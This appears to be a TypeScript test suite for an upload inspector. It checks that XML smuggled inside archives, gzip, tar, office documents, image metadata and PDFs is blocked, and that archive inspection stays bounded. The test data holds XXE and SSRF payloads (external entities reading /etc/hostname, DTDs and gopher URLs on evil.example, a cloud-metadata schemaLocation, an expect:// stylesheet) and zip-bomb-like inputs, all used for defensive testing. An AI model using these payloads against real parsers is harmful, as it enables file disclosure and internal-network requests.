import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deflateSync, gzipSync } from 'node:zlib'
import { beginInspection, inspect } from '../src/inspect.ts'
import { type Entry, pdf, tar, zip } from './written-files.ts'

const BYTES = Buffer.from(Array.from({ length: 2_000 }, (_, i) => (i * 7_919) & 255))

function picture(mark: string, document: string): Buffer {
  const packet = `<?xpacket begin="\ufeff"?>${document}<?xpacket end="w"?>`
  return Buffer.concat([Buffer.from(mark, 'latin1'), BYTES, Buffer.from(packet), BYTES])
}

const TYPES: Entry = { name: '[Content_Types].xml', content: '<?xml version="1.0"?><Types/>' }

function office(document: string, before?: Buffer): Buffer {
  return zip([TYPES, { name: 'word/document.xml', content: document }], before)
}

/** Entries that use up what is read of the elements of an archive. */
const FILLER: readonly Entry[] = Array.from({ length: 6 }, (_, i) => ({
  name: `word/part${i}.xml`,
  content: `<p xmlns:x="http://www.w3.org/2001/XInclude">${'some words '.repeat(6_500)}</p>`,
}))

/** Files in which a program comes upon a document. */
const FILES: Readonly<Record<string, (document: string) => Buffer>> = {
  'an archive behind a script': d => office(d, Buffer.from('#!/bin/sh\nexec java -jar $0\n')),
  'an archive behind a picture': d => office(d, Buffer.from('GIF89a\u0001\0\u0001\0\0\0\0;', 'latin1')),
  'an archive with a comment': d => zip([{ name: 'a.xml', content: d }], Buffer.from('a'), 'c'.repeat(9_000)),
  'a header without its mark': d => zip([TYPES, { name: 'content.xml', content: d, isMarkless: true }]),
  'a header with another name': d => zip([TYPES, { name: 'content.xml', content: d, own: 'a'.repeat(900) }]),
  'an office file in an archive': d => zip([{ name: 'a/b.docx', content: office(d) }]),
  'a compressed drawing in an archive': d => zip([{ name: 'a.svgz', content: gzipSync(d) }]),
  'a compressed archive': d => gzipSync(office(d)),
  tar: d => tar('a/pom.xml', Buffer.from(d)),
  'tar, compressed': d => gzipSync(tar('a/pom.xml', Buffer.from(d))),
  'an office file in tar': d => gzipSync(tar('a.docx', office(d))),
  'gzip in two members': d => Buffer.concat([gzipSync(d.slice(0, 21)), gzipSync(d.slice(21))]),
  'gzip, cut': d => gzipSync(d).subarray(0, -9),
  zlib: d => deflateSync(d),
}

const XML = '<?xml version="1.0"?>'
const PADDING = `<!--${' some words of a licence '.repeat(3_000)}-->`
const ENTITIES: readonly string[] = [
  `${XML}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>`,
  `${XML}<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>`,
  `${XML}<!DOCTYPE r PUBLIC "-//A//B//EN" "netdoc:/etc/hostname"><r/>`,
  `${XML}<!DOCTYPE r [${PADDING}<!ENTITY x SYSTEM "gopher://evil.example/a">]><r>&x;</r>`,
]
const DOCUMENTS: readonly string[] = [
  ...ENTITIES,
  `${XML}<r xmlns:q="http://www.w3.org/2001/XInclude"><q:include parse="text" href="file:///etc/hostname"/></r>`,
  `${XML}<r xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="jar:http://evil.example/a!/b"/>`,
  `${XML}<r i:schemaLocation = 'urn:a  file:///etc/hostname'/>`,
  `${XML}<r i:schemaLocation="urn:a http://169.254.169.254/latest/"/>`,
  `${XML}<?xml-stylesheet type="text/xsl" href="/etc/hostname"?><r/>`,
  `${XML}<?xml-stylesheet type="text/xsl" href="expect://id"?><r/>`,
]
const HONEST: readonly string[] = [
  `${XML}<r i:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>`,
  `${XML}<r i:noNamespaceSchemaLocation="file:///C:/schemas/order.xsd"/>`,
  `${XML}<r i:noNamespaceSchemaLocation="../schemas/etc/order.xsd" a="/etc/hostname"/>`,
  `${XML}<?xml-stylesheet type="text/xsl" href="/styles/dev/a.xsl"?><r/>`,
  `${XML}<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY name "words">]><r>&name;</r>`,
  '<?xml version="1.0" encoding="ISO-8859-2"?><r/>',
]

function upload(content: Buffer, name = 'a.bin'): string {
  const head = `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: a/b\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--b--\r\n')])
  return inspect({
    method: 'POST',
    target: '/files',
    headers: ['content-type', 'multipart/form-data; boundary=b'],
    body,
  }).verdict
}

function put(content: Buffer): string {
  const headers = ['content-type', 'application/octet-stream']
  return inspect({ method: 'PUT', target: '/files/a', headers, body: content }).verdict
}

describe('documents that lie in something packed', () => {
  for (const [kind, write] of Object.entries(FILES))
    test(kind, () => {
      for (const document of DOCUMENTS) {
        assert.equal(upload(write(document)), 'block', document.slice(-120))
        assert.equal(put(write(document)), 'block', `put: ${document.slice(-120)}`)
      }
      for (const document of HONEST) assert.equal(upload(write(document)), 'pass', document)
    })

  test('what programs open first is read first, whatever stands before it', () => {
    const far = `<p>${'words '.repeat(2_000)}</p>`
    const document = `<r xmlns:q="http://www.w3.org/2001/XInclude">${far}<q:include href="file:///etc/hostname"/></r>`
    for (const name of [
      '[Content_Types].xml',
      'word/document.xml',
      'xl/workbook.xml',
      'xl/sharedStrings.xml',
      'ppt/presentation.xml',
      'content.xml',
      'META-INF/container.xml',
      'word/_rels/document.xml.rels',
    ])
      assert.equal(upload(zip([...FILLER, { name, content: document }, ...FILLER])), 'block', name)
  })

  test('the metadata of pictures and of PDF', () => {
    for (const document of ENTITIES) {
      for (const mark of [
        '\u00ff\u00d8\u00ff\u00e0',
        '\u0089PNG\r\n\u001a\n',
        'GIF89a',
        'RIFF',
        'II*\0',
        '%PDF-1.7\n',
      ])
        assert.equal(upload(picture(mark, document)), 'block', mark)
      if (document.length < 9_000) assert.equal(upload(pdf(deflateSync(document)), 'a.pdf'), 'block')
    }
    for (const document of HONEST) {
      assert.equal(upload(picture('\u00ff\u00d8\u00ff\u00e0', document), 'a.jpg'), 'pass', document)
      assert.equal(upload(pdf(deflateSync(document)), 'a.pdf'), 'pass', document)
    }
    const quoting = `%PDF-1.7\n${'BT (a document begins with <!DOCTYPE html> and "words) Tj ET\n'.repeat(90)}`
    assert.equal(upload(Buffer.concat([Buffer.from(quoting), BYTES]), 'a.pdf'), 'pass')
  })

  test('a document in a charset that hides ASCII is beyond a bound', () => {
    const document = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r'
    assert.equal(upload(office(document)), 'too-big')
    assert.equal(upload(Buffer.from(document), 'a.xml'), 'too-big')
  })
})

/** What inspecting a file costs, in units. */
function spent(content: Buffer): number {
  const head =
    '--b\r\nContent-Disposition: form-data; name="f"; filename="a.zip"\r\nContent-Type: a/b\r\n\r\n'
  const ongoing = beginInspection({
    method: 'POST',
    target: '/x',
    headers: ['content-type', 'multipart/form-data; boundary=b'],
    body: Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--b--\r\n')]),
  })
  ongoing.finish()
  return ongoing.spent
}

describe('what is read of archives is bounded', () => {
  const many = (count: number, content: Buffer | string): Buffer =>
    zip(Array.from({ length: count }, (_, i) => ({ name: `e${i}`, content })))

  test('prologs that go on in many entries are refused once they come to too much', () => {
    const long = `${'<!---->'.repeat(9_000)}<r/>`
    assert.equal(upload(many(4, long)), 'pass')
    assert.equal(upload(many(100, long)), 'too-big')
    assert.ok(spent(many(1_000, long)) < 2 * spent(many(100, long)))
  })

  test('an archive of two thousand sheets is let through, and what declares something in the last is found', () => {
    const rows = Array.from({ length: 60 }, (_, i) => `<row r="${i}"><c r="A${i}"><v>${i}</v></c></row>`)
    const sheet = `${XML}<worksheet xmlns="urn:a"><sheetData>${rows.join('')}</sheetData></worksheet>`
    const sheets = Array.from({ length: 2_000 }, (_, i) => ({
      name: `xl/worksheets/sheet${i}.xml`,
      content: sheet,
    }))
    assert.ok(spent(zip([TYPES, ...sheets])) < 50_000_000)
    assert.equal(upload(zip([TYPES, ...sheets])), 'pass')
    for (const content of ENTITIES)
      assert.equal(upload(zip([TYPES, ...sheets, { name: 'xl/last.xml', content }])), 'block', content)
    for (const content of DOCUMENTS)
      assert.equal(upload(zip([...sheets, { name: 'xl/workbook.xml', content }])), 'block', content)
  })

  test('archives in archives cost the same from some number on, but for the entries that they are', () => {
    const inner = many(20, '<a/>')
    const each = (count: number): number => spent(many(count, inner)) / count
    assert.ok(each(2_000) < each(20) / 4)
  })

  test('attack: a few bytes that come to an archive of many entries cost no more than one of some hundred', () => {
    const headers = (count: number): Buffer =>
      gzipSync(Buffer.alloc(count * 32, `PK\u0003\u0004${'\0'.repeat(28)}`, 'latin1'))
    assert.ok(headers(20_000).length < 3_000)
    assert.ok(spent(headers(20_000)) < 4_000_000, `${spent(headers(20_000))} units`)
    assert.ok(spent(headers(4_000)) < 2 * spent(headers(300)))
  })

  test('headers without content, and streams without a document, count', () => {
    const headers = Buffer.alloc(320_000, `PK\u0003\u0004${'\0'.repeat(28)}`, 'latin1')
    assert.ok(spent(headers) > 10_000 * 8_192)
    const streams = (count: number): Buffer => pdf(Buffer.concat(Array(count).fill(pdf(deflateSync('a')))))
    assert.ok(spent(streams(1_000)) - spent(streams(500)) > 500 * 512)
    assert.ok(spent(streams(9_000)) - spent(streams(3_000)) > 6_000 * 512, 'however many there are')
  })
})
